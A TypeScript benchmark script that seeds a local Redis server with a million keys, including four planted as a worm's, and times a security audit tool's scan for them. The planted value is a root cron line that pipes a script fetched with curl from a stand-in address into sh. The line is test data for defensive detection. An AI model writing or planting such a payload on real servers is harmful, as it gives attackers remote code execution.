// One real redis-server with a million keys, four of them a worm's: how long the audit takes, what it finds, how long its
// longest command took the server, and what a plain `SCAN` of all names takes on the same server:
// node bench/million.ts [KEYS] [low|normal|high]

import { auditServer } from '../src/audit/audit-server.ts';
import type { Impact } from '../src/audit/limits.ts';
import { IMPACTS, impactLimits } from '../src/audit/limits.ts';
import { systemClock } from '../src/platform/clock.ts';
import type { RealRedis } from '../test/peers/redis-server.ts';
import { startRedis } from '../test/peers/redis-server.ts';
import { shippedKnowledge } from '../test/peers/shipped-knowledge.ts';

const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
/** Half of them under names that campaigns are known by, half under new ones. */
const BAD_KEYS = ['backup1', 'backup2', 'zq7w', 'update_conf'];

async function fill({ client }: RealRedis, keys: number): Promise<void> {
  for (let from = 0; from < keys; from += 10_000) {
    const words: string[] = [];
    for (let at = from; at < Math.min(keys, from + 10_000); at++)
      words.push(`session:${at}`, `{"user":${at}}`);
    await client.mset(...words);
  }
  for (const key of BAD_KEYS) await client.set(key, CRON);
}

/** The bare machine: every name, nothing else, as fast as it goes. */
async function bareScan({ client }: RealRedis): Promise<number> {
  const began = performance.now();
  let cursor = '0';
  do {
    [cursor] = await client.scan(cursor, 'COUNT', 250);
  } while (cursor !== '0');
  return (performance.now() - began) / 1_000;
}

async function bench(keys: number, impact: Impact): Promise<void> {
  const server = await startRedis('--slowlog-log-slower-than', '1000');
  try {
    await fill(server, keys);
    const knowledge = shippedKnowledge();
    const bare = await bareScan(server);
    await server.client.call('SLOWLOG', 'RESET');
    await server.client.config('RESETSTAT');
    const began = performance.now();
    const report = await auditServer(
      { text: 'bench', host: '127.0.0.1', port: server.port, tls: false },
      knowledge,
      { clock: systemClock, limits: impactLimits(impact) },
    );
    const seconds = (performance.now() - began) / 1_000;
    const slow = (await server.client.call('SLOWLOG', 'GET', '10')) as [number, number, number, string[]][];
    const found = BAD_KEYS.filter((key) => JSON.stringify(report.findings).includes(key));
    console.log(
      `${keys} keys, impact ${impact}: ${seconds.toFixed(2)} s; a bare SCAN of all names ${bare.toFixed(2)} s`,
    );
    console.log(
      `names ${report.counts.keysSeen}, values ${report.counts.valuesRead}, malicious values ${report.counts.maliciousValues}, named in findings: ${found.join(' ')}`,
    );
    console.log(
      `infected ${report.axes.infected.answer}; memory ${Math.round(process.memoryUsage.rss() / 1e6)} MB`,
    );
    console.log(`commands above 1 ms on the server: ${slow.length}`);
    for (const [, , micros, argv] of slow) console.log(`  ${micros} us: ${argv.slice(0, 4).join(' ')}`);
    for (const line of await longest(server)) console.log(`  ${line}`);
    console.log(report.notTested.filter((line) => /^(values|key names|the rest)/.test(line)).join('\n'));
  } finally {
    await server.stop();
  }
}

/** The time inside the server by command, the dearest first. */
async function longest({ client }: RealRedis): Promise<string[]> {
  const all = [...(await client.info('commandstats')).matchAll(/cmdstat_(\S+):calls=(\d+),usec=(\d+)/g)];
  return all
    .map(([, name = '', calls = '', micros = '']) => ({ name, calls: Number(calls), micros: Number(micros) }))
    .toSorted((one, other) => other.micros - one.micros)
    .slice(0, 5)
    .map(
      ({ name, calls, micros }) => `${name}: ${calls} calls, ${(micros / 1_000).toFixed(1)} ms in the server`,
    );
}

const keys = Math.min(Math.max(10, Math.trunc(Number(process.argv[2] ?? 1_000_000))), 20_000_000);
await bench(keys, IMPACTS.find((one) => one === process.argv[3]) ?? 'normal');
